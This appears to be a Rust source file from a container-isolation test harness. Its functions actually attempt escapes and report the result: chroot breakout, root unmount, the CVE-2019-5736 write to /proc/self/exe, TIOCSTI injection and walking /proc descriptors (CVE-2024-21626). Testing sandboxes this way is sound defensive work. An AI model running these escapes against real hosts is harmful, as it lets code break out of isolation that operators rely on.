//! What a hostile program inside a container tries first. Each verb carries the attack out for real and
//! answers how far it came; which answer is the right one is the test's business.

use crate::process::answer;
use crate::sys;
use serde_json::{Map, Value, json};
use std::fs::{self, OpenOptions};
use std::io::{self, Read, Write};
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::OpenOptionsExt;
use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};

/// `chroot-escape MARKER`: the escape of chroot(2)'s man page, a directory kept open outside a second chroot.
/// Answers whether the host's file MARKER can be seen afterwards, and what `/` holds.
pub(crate) fn chroot_escape(words: &[String]) -> Option<Value> {
    let escape = || -> io::Result<()> {
        let outside = fs::File::open("/")?;
        fs::create_dir_all("/escape").or_else(|_| fs::create_dir_all("/tmp/escape"))?;
        let cell = if fs::metadata("/escape").is_ok() { "/escape" } else { "/tmp/escape" };
        std::os::unix::fs::chroot(cell)?;
        sys::fchdir(outside.as_raw_fd())?;
        for _ in 0..256 {
            std::env::set_current_dir("..")?;
        }
        std::os::unix::fs::chroot(".")
    };
    let chrooted = escape();
    let marker = words.first().map(String::as_str).unwrap_or_default();
    Some(json!({"chrooted": chrooted.as_ref().map_or_else(sys::errno_name, |()| "ok".into()),
        "escaped": fs::metadata(marker).is_ok(), "root": crate::report::names_in("/")}))
}

/// `unmount-escape MARKER`: takes the root away and enters the mount namespace anew, which leads to whatever
/// lies below. Answers whether that is the host's root, which holds MARKER.
pub(crate) fn unmount_escape(words: &[String]) -> Option<Value> {
    let escape = || -> io::Result<()> {
        let namespace = fs::File::open("/proc/self/ns/mnt")?;
        sys::detach("/")?;
        sys::enter_mounts(namespace.as_raw_fd())
    };
    let unmounted = escape();
    let marker = words.first().map(String::as_str).unwrap_or_default();
    Some(json!({"unmounted": outcome(unmounted), "escaped": fs::metadata(marker).is_ok()}))
}

/// `open-exe-write PATH`: CVE-2019-5736: directly, and again through a descriptor of it.
pub(crate) fn open_exe_write(words: &[String]) -> Option<Value> {
    let path = words.first().map_or("/proc/self/exe", String::as_str);
    let direct = OpenOptions::new().write(true).open(path);
    let append = OpenOptions::new().append(true).open(path);
    let held = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(path);
    let again = held
        .and_then(|file| OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd())));
    let told =
        |result: io::Result<fs::File>| result.map_or_else(|e| sys::errno_name(&e), |_| "ok".to_string());
    Some(
        json!({"write": told(direct), "append": told(append), "again": told(again), "target": fs::read_link(path).ok(),
        "on_read_only_mount": sys::is_on_read_only_mount(path).ok(), "size": fs::metadata(path).map(|meta| meta.len()).ok()}),
    )
}

/// Pushes a newline into each terminal that can be reached (CVE-2017-5226).
pub(crate) fn tiocsti(_: &[String]) -> Option<Value> {
    let mut told: Map<String, Value> = Map::new();
    for fd in 0..3 {
        told.insert(fd.to_string(), json!(outcome(sys::tiocsti(fd))));
    }
    let own = OpenOptions::new()
        .read(true)
        .write(true)
        .open("/dev/tty")
        .and_then(|tty| sys::tiocsti(tty.as_raw_fd()));
    told.insert("/dev/tty".into(), json!(outcome(own)));
    Some(Value::Object(told))
}

/// The three calls of keyrings(7), which know no namespaces.
pub(crate) fn keyctl(_: &[String]) -> Option<Value> {
    let calls = ["add_key", "request_key", "keyctl"];
    Some(Value::Object(calls.iter().map(|name| (name.to_string(), json!(sys::call(name)))).collect()))
}

/// `syscall NAME`: one call with arguments that are harmless if it is allowed; answers `ok` or the errno.
pub(crate) fn syscall(words: &[String]) -> Option<Value> {
    Some(json!(sys::call(words.first().map_or("", String::as_str))))
}

pub(crate) fn syscalls(words: &[String]) -> Option<Value> {
    Some(Value::Object(words.iter().map(|name| (name.clone(), json!(sys::call(name)))).collect()))
}

/// `mknod PATH MAJOR MINOR`: a block device, and whether it can be opened.
pub(crate) fn mknod(words: &[String]) -> Option<Value> {
    let [path, major, minor] = words else { return Some(Value::Null) };
    let (major, minor) = (major.parse().unwrap_or(0), minor.parse().unwrap_or(0));
    let made = sys::mknod_block(path, major, minor);
    Some(
        json!({"made": outcome(made), "opened": fs::File::open(path).map_or_else(|e| sys::errno_name(&e), |_| "ok".into())}),
    )
}

/// `mount SOURCE TARGET TYPE OPTIONS`: OPTIONS of bind, remount, rw, ro, or none.
pub(crate) fn mount(words: &[String]) -> Option<Value> {
    let word = |at: usize| words.get(at).map_or("", String::as_str);
    Some(json!(outcome(sys::mount(word(0), word(1), word(2), word(3)))))
}

/// `shm make KEY` or `shm find KEY`: System V shared memory, which an IPC namespace hides.
pub(crate) fn shm(words: &[String]) -> Option<Value> {
    let key = words.get(1).and_then(|key| key.parse().ok()).unwrap_or(0);
    answer(sys::shm(key, words.first().is_some_and(|word| word == "make")).map(|id| json!({"id": id})))
}

/// `connect ADDRESS`: `@NAME` is an abstract socket, `/PATH` a socket file, else HOST:PORT.
pub(crate) fn connect(words: &[String]) -> Option<Value> {
    let address = words.first().map_or("", String::as_str);
    let mut said = String::new();
    let heard = if let Some(name) = address.strip_prefix('@') {
        SocketAddr::from_abstract_name(name)
            .and_then(|address| UnixStream::connect_addr(&address))
            .and_then(|mut stream| stream.read_to_string(&mut said))
    } else if address.starts_with('/') {
        UnixStream::connect(address).and_then(|mut stream| stream.read_to_string(&mut said))
    } else {
        std::net::TcpStream::connect(address).and_then(|mut stream| stream.read_to_string(&mut said))
    };
    answer(heard.map(|_| json!({"heard": said})))
}

/// `listen ADDRESS TEXT`: says `ready`, then TEXT to one caller.
pub(crate) fn listen(words: &[String]) -> Option<Value> {
    let [address, text] = words else { return Some(Value::Null) };
    let serve = || -> io::Result<Value> {
        if let Some(name) = address.strip_prefix('@') {
            let listener = UnixListener::bind_addr(&SocketAddr::from_abstract_name(name)?)?;
            println!("ready");
            listener.accept()?.0.write_all(text.as_bytes())?;
        } else {
            let listener = std::net::TcpListener::bind(address)?;
            println!("ready");
            listener.accept()?.0.write_all(text.as_bytes())?;
        }
        Ok(json!({"served": true}))
    };
    answer(serve())
}

/// `walk-descriptors MARKER`: CVE-2024-21626: from each descriptor of each visible process up to a file MARKER.
pub(crate) fn walk_descriptors(words: &[String]) -> Option<Value> {
    let marker = words.first().map(|path| path.trim_start_matches('/')).unwrap_or_default();
    let mut found = Vec::new();
    for pid in crate::report::names_in("/proc").unwrap_or_default() {
        let fds = crate::report::names_in(&format!("/proc/{pid}/fd")).unwrap_or_default();
        let doors = fds.iter().map(|fd| format!("fd/{fd}")).chain(["cwd".into(), "root".into()]);
        for door in doors.map(|door| format!("/proc/{pid}/{door}")) {
            for up in ["", "../".repeat(32).as_str()] {
                if fs::metadata(format!("{door}/{up}{marker}")).is_ok() {
                    found.push(door.clone());
                }
            }
        }
    }
    Some(json!({"found": found}))
}

fn outcome<T>(result: io::Result<T>) -> String {
    result.map_or_else(|error| sys::errno_name(&error), |_| "ok".to_string())
}
